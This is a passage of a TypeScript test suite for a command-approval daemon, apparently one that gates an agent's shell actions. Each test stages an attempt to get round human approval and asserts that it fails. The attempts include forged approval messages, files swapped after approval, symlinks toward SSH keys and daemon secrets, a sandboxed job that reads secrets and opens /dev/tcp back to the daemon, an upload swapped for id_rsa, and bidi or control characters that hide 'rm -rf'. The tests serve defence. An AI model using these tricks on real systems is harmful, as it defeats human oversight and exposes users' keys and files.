// What somebody who knows the code has tried on a daemon, to have a command run that nobody approved, to make an approval count
// that nobody gave, or to have another thing run than was approved. Each stood; here they stand on.

import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { planPage } from "../clients/cli/plan_text.ts";
import { columnsOf } from "../clients/cli/shown.ts";
import { readFullPlan } from "../clients/cli/plan_record.ts";
import type { Clock } from "../daemon/mod.ts";
import { printSexp } from "../daemon/wire/printer.ts";
import { getf, getKeyword, getString, isList, type Value } from "../daemon/wire/value.ts";
import { type DaemonOptions, type TestDaemon, withDaemon } from "./harness/daemon.ts";
import { phaseTest } from "./harness/phase.ts";
import type { Wire } from "./harness/wire.ts";

const AREA = "attacks";

const quoted = (text: string) => printSexp(text);
const shell = (command: string, more = "", head = "") =>
  `(:TYPE :REQUEST ${head} :TARGET :SHELL :PAYLOAD (:ACTION :EXECUTE :CMD ${quoted(command)} ${more}))`;
const system = (action: string, head = "") => `(:TYPE :REQUEST ${head} :TARGET :SYSTEM :PAYLOAD (:ACTION ${action}))`;
const decision = (verb: string, { id, hash }: Asked) => `:${verb}-PLAN :ID ${quoted(id)} :HASH ${quoted(hash)}`;
const plan = (state: string, more = "") => `(:TYPE :EVENT :PAYLOAD (:ACTION :PLAN :STATE ${state} ${more}))`;
const ANSWER = "(:TYPE (OR :RESPONSE :LOG))";

/** A plan that waits, as whoever asked was told of it. */
interface Asked {
  readonly id: string;
  readonly hash: string;
}

function withShell(body: (daemon: TestDaemon) => Promise<void>, options: DaemonOptions = {}): Promise<void> {
  return withDaemon({ disk: true, allowLog: [/Commands are not contained/], ...options }, body);
}

const payload = (message: Value) => getf(message, "PAYLOAD") as Value;
const codeOf = (message: Value) => getKeyword(payload(message), "CODE");

async function propose(wire: Wire, command: string, more = "", head = ""): Promise<Asked> {
  await wire.send(shell(command, more, head), { unchecked: true });
  const heard = payload(await wire.expect(plan(":PLAN", ":ID ?STRING :HASH ?STRING")));
  return { id: getString(heard, "ID") ?? "", hash: getString(heard, "HASH") ?? "" };
}

async function ask(wire: Wire, action: string, head = ""): Promise<Value> {
  await wire.send(system(action, head), { unchecked: true });
  return await wire.expect(ANSWER);
}

/** Approves a plan, and returns the state in which it ended. */
async function approved(wire: Wire, asked: Asked, own = false): Promise<string> {
  await wire.send(system(decision("APPROVE", asked)));
  await wire.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :APPROVE-PLAN :STATUS :OK))");
  const ended = await wire.expect(
    `(:TYPE :EVENT :PAYLOAD (:ACTION :PLAN :ID "${asked.id}" :STATE (OR :DONE :FAILED :INTERRUPTED)))`,
  );
  if (own) wire.ignore(plan(":APPROVED"), plan(":RUNNING"), "(:TYPE :RESPONSE :PAYLOAD (:ACTION :EXECUTE))");
  return getKeyword(payload(ended), "STATE") ?? "";
}

async function shown(wire: Wire, { id }: Asked): Promise<Value> {
  return getf(payload(await ask(wire, `:SHOW-PLAN :ID "${id}"`)), "PLAN") as Value;
}

async function stateOf(wire: Wire, asked: Asked): Promise<string> {
  return getKeyword(await shown(wire, asked), "STATE") ?? "";
}

/** Whether runs are contained; the first run finds out. */
async function isContained(wire: Wire): Promise<boolean> {
  await wire.send(shell("true"));
  await wire.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :EXECUTE :STATUS :DONE))");
  return getString(payload(await ask(wire, ":STATUS")), "CONTAINMENT") === "bubblewrap";
}

const workOf = ({ folders }: TestDaemon) => `${folders.data}/passepartout/work`;

function exists(path: string): Promise<boolean> {
  return Deno.lstat(path).then(() => true, () => false);
}

/** A line of shell of the test's own, on the disk of the test. */
async function script(line: string, folder: string): Promise<void> {
  const { success } = await new Deno.Command("sh", { args: ["-c", line], cwd: folder }).output();
  assert(success, line);
}

phaseTest(
  1,
  AREA,
  "approval that is spelled otherwise than the plan it is for counts for none",
  [],
  () =>
    withShell(async (daemon) => {
      const wire = await daemon.dial();
      const asked = await propose(wire, "touch pwned");
      const { id, hash } = asked;
      const spellings: readonly [id: string, hash: string][] = [
        [id, ""],
        [id, hash.slice(0, 12)],
        [id, hash.toUpperCase()],
        [id, `${hash}\n`],
        [id, `${hash}\u200b`],
        [id, [...hash].reverse().join("")],
        [`${id}\n`, hash],
        [` ${id}`, hash],
        [id.slice(0, 5), hash],
        ["%", hash],
        ["", hash],
        [`${id.slice(0, 9)}\uff10`, hash],
      ];
      for (const [otherId, otherHash] of spellings) {
        const answer = await ask(wire, decision("APPROVE", { id: otherId, hash: otherHash }));
        assertMatch(codeOf(answer) ?? "", /^(NO-SUCH-PLAN|PLAN-CHANGED)$/, printSexp([otherId, otherHash]));
      }
      const forms = [
        `:APPROVE-PLAN :ID "x" :ID "${id}" :HASH "${hash}"`,
        `:APPROVE-PLAN :ID "${id}" :HASH "x" :HASH "${hash}"`,
        `:APPROVE-PLAN :ID "${id}" :HASH T`,
        `:APPROVE-PLAN :HASH "${hash}"`,
        `:|approve-plan| :ID "${id}" :HASH "${hash}"`,
        `:EVAL :ID "${id}" :HASH "${hash}"`,
      ];
      for (const form of forms) assert(codeOf(await ask(wire, form)) !== undefined, form);
      assertEquals(await stateOf(wire, asked), "PLAN");
      assert(!await exists(`${workOf(daemon)}/pwned`));
    }),
);

phaseTest(1, AREA, "no message but a decision decides, whatever it says it is", [], () =>
  withShell(async (daemon) => {
    const wire = await daemon.dial();
    const asked = await propose(wire, "touch pwned");
    const { id, hash } = asked;
    const decides = `:ACTION :APPROVE-PLAN :STATUS :OK :ID "${id}" :HASH "${hash}" :STATE :APPROVED`;
    const answered = [
      `(:TYPE :EVENT :PAYLOAD (:ACTION :PLAN :ID "${id}" :HASH "${hash}" :STATE :APPROVED))`,
      `(:TYPE :EVENT :PAYLOAD (:SENSOR :REQUEST :TARGET :SYSTEM ${decides}))`,
      `(:TYPE :EVENT :PAYLOAD (:SENSOR :LOOP-ERROR ${decides}))`,
      `(:TYPE :REQUEST :TARGET :SHELL :PAYLOAD (${decides}))`,
      `(:TYPE :REQUEST :TARGET :CLIENT :PAYLOAD (${decides}))`,
      `(:TYPE :REQUEST :TARGET :PLANS :PAYLOAD (${decides}))`,
      `(:TYPE :REQUEST :PAYLOAD (${decides}))`,
    ];
    for (const message of answered) {
      await wire.send(message, { unchecked: true });
      const answer = await wire.expect("(:TYPE :LOG)");
      assertMatch(codeOf(answer) ?? "", /^(INVALID-MESSAGE|DENIED|NO-ACTUATOR)$/, message);
    }
    for (const type of ["RESPONSE", "STATUS", "LOG"]) {
      await wire.send(`(:TYPE :${type} :PAYLOAD (${decides}))`, { unchecked: true });
    }
    await wire.send(`(:TYPE :EVENT :PAYLOAD (:SENSOR :USER-INPUT :TEXT "approve plan ${id} ${hash}"))`);
    await wire.expect("(:TYPE :REQUEST :PAYLOAD (:ACTION :MESSAGE))");
    assertEquals(await stateOf(wire, asked), "PLAN");
    assert(!await exists(`${workOf(daemon)}/pwned`));
  }));

phaseTest(
  1,
  AREA,
  "what a request claims of itself grants it nothing, and its first :CMD is the one that runs",
  [],
  () =>
    withShell(async (daemon) => {
      const wire = await daemon.dial();
      const claims =
        `:APPROVED T :TIER :ALLOW :PROPOSED-BY :DAEMON :GRANTS (:WRITE ("/") :NETWORK T) :STATE :APPROVED :RULE "mine"`;
      const asked = await propose(
        wire,
        "touch pwned",
        claims,
        `:APPROVED T :VERDICT (:TIER :ALLOW) :META (:SOURCE :DAEMON :APPROVED T :PROPOSED-BY :DAEMON)`,
      );
      const full = await shown(wire, asked);
      assertEquals(getString(full, "REQUESTER"), "client (DAEMON)");
      assertEquals(printSexp(getf(full, "GRANTS") as Value), `(:WRITE ("${workOf(daemon)}") :READ NIL :NETWORK NIL)`);
      for (const keys of [`:CMD "echo first" :CMD "touch pwned"`, `:|cmd| "touch pwned" :CMD "echo first"`]) {
        await wire.send(`(:TYPE :REQUEST :TARGET :SHELL :PAYLOAD (:ACTION :EXECUTE ${keys}))`, { unchecked: true });
        await wire.expect(`(:TYPE :RESPONSE :PAYLOAD (:ACTION :EXECUTE :STATUS :DONE :STDOUT "first\n"))`);
      }
      for (const command of [`#("touch" "pwned")`, "|touch pwned|", ":|touch pwned|", `("touch pwned")`]) {
        await wire.send(`(:TYPE :REQUEST :TARGET :SHELL :PAYLOAD (:ACTION :EXECUTE :CMD ${command}))`, {
          unchecked: true,
        });
        assertMatch(codeOf(await wire.expect(ANSWER)) ?? "", /^(INVALID-MESSAGE|DENIED)$/, command);
      }
      assert(!await exists(`${workOf(daemon)}/pwned`));
    }),
);

phaseTest(
  1,
  AREA,
  "approval that is sent again under its :ID approves no other plan, and runs nothing twice",
  [],
  () =>
    withShell(async (daemon) => {
      const wire = await daemon.dial();
      const first = await propose(wire, "echo ran >> first.txt");
      const second = await propose(wire, "echo ran >> second.txt");
      const head = `:ID "a" :META (:SESSION-ID "s")`;
      for (const asked of [first, second, first]) {
        await wire.send(system(decision("APPROVE", asked), head));
        await wire.expect(`(:TYPE :RESPONSE :IN-REPLY-TO "a" :PAYLOAD (:STATUS :OK :ID "${first.id}"))`);
      }
      for (const state of [":APPROVED", ":RUNNING", ":DONE"]) await wire.expect(plan(state, `:ID "${first.id}"`));
      await wire.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :EXECUTE :STATUS :DONE))");
      assertEquals(await stateOf(wire, second), "PLAN");
      assertEquals(await Deno.readTextFile(`${workOf(daemon)}/first.txt`), "ran\n");
      assert(!await exists(`${workOf(daemon)}/second.txt`));
    }),
);

phaseTest(
  1,
  AREA,
  "approvals, denials and cancellations that cross leave one truth",
  [],
  () =>
    withShell(async (daemon) => {
      const wires = await Promise.all(Array.from({ length: 6 }, () => daemon.dial()));
      const asker = await daemon.dial();
      const asked: Asked[] = [];
      for (const n of [0, 1, 2]) asked.push(await propose(asker, `echo ran >> crossed-${n}.txt`));
      for (const [n, each] of asked.entries()) {
        const verbs = ["DENY", "APPROVE", "CANCEL"].map((_, i, all) => all[(i + n) % all.length] as string);
        const answers = await Promise.all(wires.map(async (wire, i) => {
          const verb = verbs[i % verbs.length] as string;
          await wire.send(system(decision(verb, each)));
          return { verb, won: getf(payload(await wire.expect(ANSWER)), "STATUS") !== undefined };
        }));
        const won = answers.filter((answer) => answer.won).map(({ verb }) => verb);
        // A cancellation can stop what was approved; nothing else counts after another.
        assert(won.filter((verb) => verb === "APPROVE" || verb === "DENY").length <= 1, won.join(" "));
        if (!won.includes("APPROVE")) assertEquals(await stateOf(wires[0] as Wire, each), "DENIED");
      }
      // Who asked hears of each change, in whatever order.
      asker.abandon();
      await daemon.stop();
      const ledger = (await Deno.readTextFile(`${daemon.stateFolder}/ledger.log`)).split("\n");
      for (const [n, { id }] of asked.entries()) {
        const lines = ledger.filter((line) => line.includes(`"plan":"${id}"`));
        const answers = lines.filter((line) => /"event":"(approve|deny)"/.test(line));
        assertEquals(answers.length, 1, "one answer a plan is written down");
        const ran = await Deno.readTextFile(`${workOf(daemon)}/crossed-${n}.txt`).catch(() => "");
        assertMatch(ran, answers[0]?.includes('"event":"deny"') ? /^$/ : /^(ran\n)?$/);
      }
    }),
);

phaseTest(
  1,
  AREA,
  "plan that the rules of the user refuse by now does not run, approved or not",
  [],
  () =>
    withShell(async (daemon) => {
      const wire = await daemon.dial();
      const asked = await propose(wire, "touch pwned");
      await Deno.mkdir(`${daemon.folders.config}/passepartout`, { recursive: true });
      await Deno.writeTextFile(
        `${daemon.folders.config}/passepartout/policy.org`,
        "* No touching\n:PROPERTIES:\n:TIER: deny\n:MATCHES: command touch **\n:END:\n" +
          "** Matches\n- touch a\n** Does not match\n- echo a\n",
      );
      assertEquals(await approved(wire, asked, true), "INTERRUPTED");
      assertStringIncludes(getString(await shown(wire, asked), "OUTCOME") ?? "", "the guard refuses it now");
      assert(!await exists(`${workOf(daemon)}/pwned`));
    }),
);

phaseTest(
  1,
  AREA,
  "what a plan would execute by another way than was seen is not executed",
  [],
  () =>
    withShell(async (daemon) => {
      const { home } = daemon.folders;
      const evil = "echo evil > pwned\n";
      const swaps: readonly [name: string, command: string, before: string, after: string][] = [
        ["link", "sh job.sh", "echo : > a; ln -s a job.sh", `printf '${evil}' > b; ln -sfn b job.sh`],
        ["mode", "./job.sh", "echo : > job.sh; chmod +x job.sh", `printf '#!/bin/sh\n${evil}' > job.sh`],
        ["make", "make", "printf 'a:\n\t:\n' > Makefile", "printf 'a:\n\techo > pwned\n' > GNUmakefile"],
        ["npm", "npm test", "echo '{}' > package.json", "echo 'script-shell=./evil' > .npmrc"],
        ["folder", "make -C sub", "mkdir sub; echo a: > sub/Makefile", "printf 'a:\n\techo > pwned\n' > sub/Makefile"],
        ["include", "make -f mk", "echo include in.mk > mk; : > in.mk", "printf 'a:\n\techo > pwned\n' > in.mk"],
        ["prefix", "npm --prefix sub test", "mkdir sub; echo '{}' > sub/package.json", "echo '{ }' > sub/package.json"],
        ["module", "python3 -m xm", ": > xm.py", 'mkdir xm; echo \'open("pwned", "w")\' > xm/__main__.py'],
        ["path", "PATH=$PWD:$PATH job", "echo : > job; chmod +x job", `printf '#!/bin/sh\n${evil}' > job`],
        ["hooks", "git -c core.hooksPath=h status", "git init -q; mkdir h", `echo '${evil}' > h/post-index-change`],
        ["gone", "sh job.sh", "true", `printf '${evil}' > job.sh`],
        ["pipe", "sh job.sh", "echo : > job.sh", "rm job.sh; mkfifo job.sh"],
      ];
      await Promise.all(swaps.map(async ([name, command, before, after]) => {
        const folder = `${home}/${name}`;
        await Deno.mkdir(folder);
        await script(before, folder);
        const wire = await daemon.dial();
        const asked = await propose(wire, command, `:CWD "${folder}"`);
        await script(after, folder);
        assertEquals(await approved(wire, asked, true), "FAILED", name);
        wire.ignore(plan(":PLAN"));
        assertStringIncludes(getString(await shown(wire, asked), "OUTCOME") ?? "", "it changed", name);
        assert(!await exists(`${folder}/pwned`), name);
      }));
    }),
);

phaseTest(
  1,
  AREA,
  "what a plan runs in another folder is bound there: if that file changed it asks again, if another did it runs",
  [],
  () =>
    withShell(async (daemon) => {
      const { home } = daemon.folders;
      const commands = [
        "find sub -name b.sh -execdir ./b.sh \\;",
        "env -C sub ./b.sh",
        "make -C sub",
        "ssh-agent sub/b.sh",
      ];
      for (const [at, command] of commands.entries()) {
        const folder = `${home}/moved${at}`;
        await script(
          `mkdir -p ${folder}/sub && cd ${folder} && printf '#!/bin/sh\\necho ok\\n' > b.sh && cp b.sh sub/b.sh &&
            chmod +x b.sh sub/b.sh && printf 'all:\\n\\t@./b.sh\\n' > sub/Makefile && cp sub/Makefile Makefile`,
          home,
        );
        const wire = await daemon.dial();
        const asked = await propose(wire, command, `:CWD "${folder}"`);
        const changed = command.startsWith("make") ? "sub/Makefile" : "sub/b.sh";
        await script(`echo '# evil' >> ${changed}`, folder);
        assertEquals(await approved(wire, asked, true), "FAILED", command);
        wire.ignore(plan(":PLAN"));
        assertStringIncludes(
          getString(await shown(wire, asked), "OUTCOME") ?? "",
          `${changed} has other contents`,
          command,
        );
        if (!/^(?:find|env)/.test(command)) continue;
        const again = await propose(wire, command, `:CWD "${folder}"`);
        await script("echo '# other' >> b.sh; echo '# other' >> Makefile", folder);
        assertEquals(await approved(wire, again, true), "DONE", command);
      }
    }),
);

phaseTest(
  1,
  AREA,
  "a plan that runs does not rewrite, by another name of it, what the next one executes",
  [],
  () =>
    withShell(async (daemon) => {
      const { home } = daemon.folders;
      await script("mkdir pa pb && echo 'echo ran > ran' > pa/d.sh && ln pa/d.sh pb/d.sh", home);
      // It says when it is there, and rewrites the file where it lies when it is told to.
      await Deno.writeTextFile(
        `${home}/pb/swap.sh`,
        `touch ready; until [ -e go ]; do sleep 0.05; done
        echo 'echo evil > pwned' > d.sh; touch swapped`,
      );
      const [writer, runner] = [await daemon.dial(), await daemon.dial()];
      const swap = await propose(writer, "bash swap.sh", `:CWD "${home}/pb"`);
      const asked = await propose(runner, "bash d.sh", `:CWD "${home}/pa"`);
      await writer.send(system(decision("APPROVE", swap)));
      while (!await exists(`${home}/pb/ready`)) await stateOf(runner, swap);
      await runner.send(system(decision("APPROVE", asked)));
      await runner.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :APPROVE-PLAN :STATUS :OK))");
      // Time enough for it to begin, if it did.
      for (let i = 0; i < 20; i++) assertEquals(await stateOf(runner, asked), "APPROVED");
      await Deno.writeTextFile(`${home}/pb/go`, "");
      const failed = await runner.expect(
        `(:TYPE :EVENT :PAYLOAD (:ACTION :PLAN :ID "${asked.id}" :STATE (OR :DONE :FAILED :INTERRUPTED)))`,
      );
      assertEquals(getKeyword(payload(failed), "STATE"), "FAILED");
      assertMatch(getString(await shown(runner, asked), "OUTCOME") ?? "", /pa\/d\.sh has other contents/);
      assertEquals([await exists(`${home}/pa/pwned`), await exists(`${home}/pa/ran`)], [false, false]);
      assert(await exists(`${home}/pb/swapped`));
      writer.ignore("(:TYPE (OR :RESPONSE :EVENT))");
      runner.ignore("(:TYPE (OR :RESPONSE :EVENT))");
    }),
);

phaseTest(
  1,
  AREA,
  "no link, and no other name of a folder, leads a command to what is the daemon's or a key",
  [],
  () =>
    withShell(async (daemon) => {
      const { home, root } = daemon.folders;
      await Deno.mkdir(`${home}/.ssh`);
      await Deno.writeTextFile(`${home}/.ssh/authorized_keys`, "mine\n");
      await Deno.mkdir(`${daemon.folders.config}/passepartout`, { recursive: true });
      await script(
        `mkdir -p memex/system project && echo plans > memex/system/flight-plans.org && cd project &&
      ln -s ../../state/passepartout/secret s && ln -s ../.ssh/authorized_keys k &&
      ln -s ../../config/passepartout c && ln -s ../memex m && ln -s .. up && ln -s ../../state/passepartout st`,
        home,
      );
      const wire = await daemon.dial();
      const commands = [
        "cat s",
        `cat /proc/self/root${root}/state/passepartout/secret`,
        "cp s copy",
        "ln s hard",
        "ln up/memex/system/flight-plans.org hard",
        "echo evil >> k",
        "echo evil > c/policy.org",
        "sed -i s/PLAN/APPROVED/ m/system/flight-plans.org",
        "tee m/system/flight-plans.org",
        "cd st && cat secret",
        "cat st/ledger.key",
      ];
      const asks = [
        ...commands.map((command) => shell(command, `:CWD "${home}/project"`)),
        shell("cat secret", `:CWD "${home}/project/st"`),
        shell("ls", `:CWD "${home}/project/c"`),
        shell("touch x", `:CWD "${home}/memex/system"`),
        shell("touch x", ':CWD "/proc/self/cwd"'),
        shell("ls", ':CWD "project"'),
        shell("ls", ':CWD ""'),
      ];
      for (const message of asks) {
        await wire.send(message);
        const answer = await wire.expect("(:TYPE (OR :RESPONSE :LOG :EVENT))");
        assertEquals(codeOf(answer), "DENIED", message);
      }
      assertEquals(await Deno.readTextFile(`${home}/.ssh/authorized_keys`), "mine\n");
      assertEquals(await Deno.readTextFile(`${home}/memex/system/flight-plans.org`), "plans\n");
      assertEquals(await exists(`${daemon.folders.config}/passepartout/policy.org`), false);
    }),
);

phaseTest(
  1,
  AREA,
  "upload whose file became a link to a key meanwhile is not made",
  [],
  () =>
    withShell(async (daemon) => {
      const { home } = daemon.folders;
      await script("mkdir .ssh project && echo key > .ssh/id_rsa && echo report > project/report.txt", home);
      const wire = await daemon.dial();
      const asked = await propose(wire, "curl -sT report.txt http://127.0.0.1:9/", `:CWD "${home}/project"`);
      await script("ln -sf ../.ssh/id_rsa report.txt", `${home}/project`);
      assertEquals(await approved(wire, asked, true), "INTERRUPTED");
      assertMatch(getString(await shown(wire, asked), "OUTCOME") ?? "", /refuses it now.*holds secrets/);
    }),
);

phaseTest(
  1,
  AREA,
  "contained run with every folder and the network can not answer a plan",
  [],
  () =>
    withShell(async (daemon) => {
      const { root, home } = daemon.folders;
      const wire = await daemon.dial();
      const victim = await propose(wire, "touch pwned");
      const [state, config] = [`${root}/state/passepartout`, `${root}/config/passepartout`];
      await Deno.mkdir(`${home}/memex/system`, { recursive: true });
      const request = `(:TYPE :REQUEST :TARGET :SYSTEM :PAYLOAD (:ACTION ${decision("APPROVE", victim)}))`;
      const frame = request.length.toString(16).padStart(6, "0") + request;
      await Deno.writeTextFile(
        `${root}/job.sh`,
        `cat ${state}/secret ${state}/ledger.key && echo BROKE read
      { echo '* x' > ${config}/policy.org; } 2>/dev/null && echo BROKE policy
      for each in state state/passepartout config config/passepartout home home/memex home/memex/system; do
        mv ${root}/$each ${root}/moved && echo BROKE moved $each
      done
      { : >> ${home}/memex/system/flight-plans.org; } 2>/dev/null && echo BROKE view
      ln ${home}/memex/system/* ${root}/hard && echo BROKE link
      exec 3<>/dev/tcp/127.0.0.1/${daemon.port} || exit
      printf '%s' '${frame}' >&3
      timeout 5 cat <&3 | tr '(' '\\n' | grep -o 'CODE :[A-Z-]*'
      echo through`,
      );
      const asked = await propose(wire, "curl -s http://127.0.0.1:9/; bash job.sh", `:CWD "${root}"`);
      if (!await isContained(wire)) return;
      await wire.send(system(decision("APPROVE", asked)));
      await wire.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :APPROVE-PLAN :STATUS :OK))");
      const outcome = payload(await wire.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :EXECUTE))"));
      await wire.expect(plan(":DONE", `:ID "${asked.id}"`));
      wire.ignore(plan(":APPROVED"), plan(":RUNNING"));
      const stdout = getString(outcome, "STDOUT") ?? "";
      assertEquals(stdout.match(/BROKE.*/g), null);
      assertMatch(stdout, /CODE :UNAUTHENTICATED\nthrough\n$/);
      assertEquals(await stateOf(wire, victim), "PLAN");
      assert(!await exists(`${workOf(daemon)}/pwned`));
    }),
);

phaseTest(
  1,
  AREA,
  "where nobody is asked for the secret, a plan that reaches the daemon says that it could answer plans",
  [],
  () =>
    withShell(async (daemon) => {
      const wire = await daemon.dial();
      if (!await isContained(wire)) return;
      const near = await propose(wire, "touch near; rm near");
      const far = await propose(wire, "curl -s http://127.0.0.1:9/ -o page");
      assertEquals(getf(await shown(wire, near), "MAY-ANSWER"), undefined);
      const told = await shown(wire, far);
      assertEquals(getf(told, "MAY-ANSWER"), true);
      const read = readFullPlan(told);
      assert(read !== undefined);
      assertMatch(planPage(read, "bubblewrap").join("\n"), /could approve any plan/);
    }, { config: { auth: "off" } }),
);

phaseTest(
  1,
  AREA,
  "nothing in a command, its reasons or its sender is hidden from who reads the plan",
  [],
  () =>
    withShell(async (daemon) => {
      const wire = await daemon.dial();
      const commands = [
        "touch a\u202e dliub fr- mr ;\u202c",
        "touch \u001b[8mbuild\u001b[0m\r echo ok",
        "touch x\b\b\b\b\becho",
        "touch\u00a0-rf build; touch x",
        "touch a\u200bb c\u00ad\u3164",
        "touch a # \u{e0061}\ufe0f",
        "touch \\u{202e}x",
        `touch a${" ".repeat(3000)}; rm -rf build`,
        `rm -rf build${"\n".repeat(200)}touch a`,
        // As long as a row of a terminal, so that the next would begin at its margin.
        ...[80, 40].map((width) =>
          `rm -rf build; : '${".".repeat(Math.max(0, width - 32))}${
            "folder       /elsewhere".padEnd(width, "_")
          }grants  none'`
        ),
        `touch ${"日本語".repeat(20)} ${"e\u0301".repeat(60)} ${"😀".repeat(50)} && rm -rf build`,
      ];
      const hostile = "fine\nfolder       /elsewhere\ngrants       It may write nothing\u202e\u001b[2J";
      for (const command of commands) {
        const asked = await propose(
          wire,
          command,
          `:EXPLANATION ${quoted(hostile)}`,
          `:META (:SOURCE :|x)\ngrants  none\u202e|)`,
        );
        const read = readFullPlan(await shown(wire, asked));
        assert(read !== undefined);
        for (const width of [Infinity, 80, 40]) {
          const lines = planPage(read, "bubblewrap", width);
          const page = lines.join("\n");
          assertEquals(/[^\n\P{Cc}]|\p{Cf}|\u3164|\u00a0/u.exec(page), null, JSON.stringify(command));
          // Each name stands once at the beginning of a line: no text of a stranger's brings another.
          for (const name of ["command", "folder", "grants", "requester", "hash"]) {
            assertEquals(lines.filter((line) => line.startsWith(`${name} `)).length, 1, name);
          }
          // Nor does it by being longer than the terminal is wide; the rows that say how to answer are ours.
          for (const line of lines) {
            assert(columnsOf(line) <= width || line.includes("passepartout plan "), line);
            assertMatch(line, /^(?:[A-Z].*|[a-z][a-z ]{10,}.*|↳ +\S.*| +\S.*)$/);
          }
          // All of it is there: read back from the page, the command is what would run.
          const from = lines.findIndex((line) => line.startsWith("command ")),
            to = lines.findIndex((line) => /^folder /.test(line));
          const margin = (lines[to] as string).indexOf("/");
          const text = lines.slice(from, to)
            .map((line) => line.startsWith("↳") ? `↳${line.slice(margin)}` : line.slice(margin))
            .join("\n").replaceAll("\n↳", "");
          // What is empty is counted, and can be written out again.
          const unfolded = text.replace(/^\(\d+ lines\)\n/, "")
            .replace(/… (\d+) empty lines …\n/g, (_, count) => "\n".repeat(Number(count)))
            .replace(/ … (\d+) blanks … /g, (_, count) => " ".repeat(Number(count)));
          const back = unfolded.replace(/\\u\{([0-9a-f]+)\}/g, (_, hex) => String.fromCodePoint(parseInt(hex, 16)));
          assertEquals(back, command);
        }
      }
    }),
);

phaseTest(
  1,
  AREA,
  "nobody hides what waits behind plans of their own, however many and however long",
  [],
  () =>
    withShell(async (daemon) => {
      const wire = await daemon.dial();
      const first = await propose(wire, "touch waits");
      const over = await propose(wire, "touch over");
      await wire.send(system(decision("DENY", over)));
      await wire.expect(plan(":DENIED"));
      await wire.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :DENY-PLAN :STATUS :OK))");
      const long = Array.from({ length: 75 }, (_, n) => `/opt/${n}${"x".repeat(180)}/1`).join(" ");
      const many = 62;
      for (let n = 0; n < many; n++) await propose(wire, `touch ${long} ${n}`);
      const listed = async (more: string) => {
        const heard = payload(await ask(wire, `:LIST-PLANS ${more}`));
        const found = getf(heard, "PLANS");
        const plans = isList(found) ? found : [];
        assert(plans.every((each) => isList(each)), printSexp(heard).slice(0, 300));
        return [getf(heard, "TOTAL"), ...plans.map((each) => getString(each, "ID"))];
      };
      const waiting = await listed(":STATE :PLAN");
      assertEquals([waiting.length, waiting[0], waiting[1]], [many + 2, many + 1, first.id]);
      assertEquals((await listed("")).slice(0, 3), [many + 2, first.id, over.id]);
      // The beginning of an id is enough, whatever became of the plan.
      for (const { id } of [first, over]) assertEquals(await listed(`:PREFIX "${id.slice(0, 8)}"`), [1, id]);
      assertEquals(await listed(':PREFIX "nosuch"'), [0]);
      await wire.send(system(":LIST-PLANS :PREFIX 7"), { unchecked: true });
      await wire.expect("(:TYPE :LOG :PAYLOAD (:LEVEL :ERROR :CODE :INVALID-MESSAGE :FIELD :PREFIX))");
    }),
);

phaseTest(
  1,
  AREA,
  "what looks like a secret hides nothing from who reads the plan, and stands nowhere else",
  [],
  () =>
    withShell(async (daemon) => {
      const wire = await daemon.dial();
      const key = `ghp_${"aB3dE5gH7jK9".repeat(3)}`;
      const commands: readonly (readonly [command: string, secret: string])[] = [
        ["bash -c 'IFS=+; PASSWORD=rm+-rf+Notes1; $PASSWORD'", "rm+-rf"],
        ["PASSWORD=Notes1x; rm -rf $PASSWORD", "Notes1x"],
        ["sh <<E\nPASSWORD='rm -rf Notes1'\n\\$PASSWORD\nE", "Notes1"],
        ["set -- --password python3; $2 x.py", "python3"],
        ["perl -e password:unlink+NotesF1", "unlink"],
        ['PASSWORD="abc$(rm -rf Notes1)" make', "Notes1"],
        [`rm -rf -- ${key}`, key],
        ["touch a # password=S3cretPass1", "S3cret"],
        ["PASSWORD=$'S3cretPass1' make", "S3cret"],
        ["curl -u 'me:S3cret Pass1' https://example.com/", "Pass1"],
        ["PASSWORD='S3cret'Pass1word make", "Pass1"],
        ["PASSWORD=abc\\ S3cretPass1 make", "Pass1"],
        [
          `echo '{"private_key":"-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\n-----END PRIVATE KEY-----"}' > k.json`,
          "MIIEv",
        ],
      ];
      for (const [command, secret] of commands) {
        const asked = await propose(wire, command);
        const read = readFullPlan(await shown(wire, asked));
        assertEquals([read?.command, read?.secrets], [command, true]);
        assertStringIncludes(planPage(read as NonNullable<typeof read>, "bubblewrap").join("\n"), "secrets ");
        await wire.send(system(":LIST-PLANS"));
        const listed = printSexp(await wire.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :LIST-PLANS))"));
        assertStringIncludes(listed, asked.id);
        const ledger = await Deno.readTextFile(`${daemon.stateFolder}/ledger.log`);
        assertStringIncludes(ledger, asked.id);
        for (const text of [listed, ledger]) assertEquals(text.includes(secret), false, command);
      }
    }),
);

phaseTest(1, AREA, "node of a plan that is not the one written, but for its keyword, is no answer", [], async () => {
  const edits: Readonly<Record<string, (node: string) => string>> = {
    // First: behind another it would be its child.
    "a level down": (node) => node.replace("* APPROVED", "** APPROVED"),
    "another command": (node) => node.replace(/^touch .*$/m, "touch other"),
    "another hash": (node) => node.replace(/:HASH: ./, ":HASH: x"),
    "an id more": (node) => node.replace(/(:ID: .*\n)/, "$1$1"),
    "twice": (node) => `${node}\n${node}`,
    "line ends": (node) => node.replaceAll("\n", "\r\n"),
    "small letters": (node) => node.replace("APPROVED", "approved"),
    "a child": (node) => `${node}** APPROVED x\n`,
    "a block around": (node) => `#+begin_comment\n${node}#+end_comment\n`,
    "a blank more": (node) => node.replace(/$/m, " "),
    "done": (node) => node.replace("APPROVED", "DONE"),
    "commented": (node) => node.replace("APPROVED", "APPROVED COMMENT"),
  };
  await withShell(async (daemon) => {
    const first = await daemon.dial();
    const names = [...Object.keys(edits), "untouched"];
    const asked: Asked[] = [];
    for (const [n] of names.entries()) asked.push(await propose(first, `touch forged-${n}`));
    const contained = await isContained(first);
    await daemon.closeWires();
    await daemon.stop();
    const file = `${daemon.folders.home}/memex/system/flight-plans.org`;
    const [head = "", ...nodes] = (await Deno.readTextFile(file)).split(/^(?=\* )/m);
    const text = nodes.map((node, n) =>
      (edits[names[n] as string] ?? ((same) => same))(node.replace("* PLAN ", "* APPROVED "))
    );
    await Deno.writeTextFile(file, head + text.join(""));
    await daemon.start();
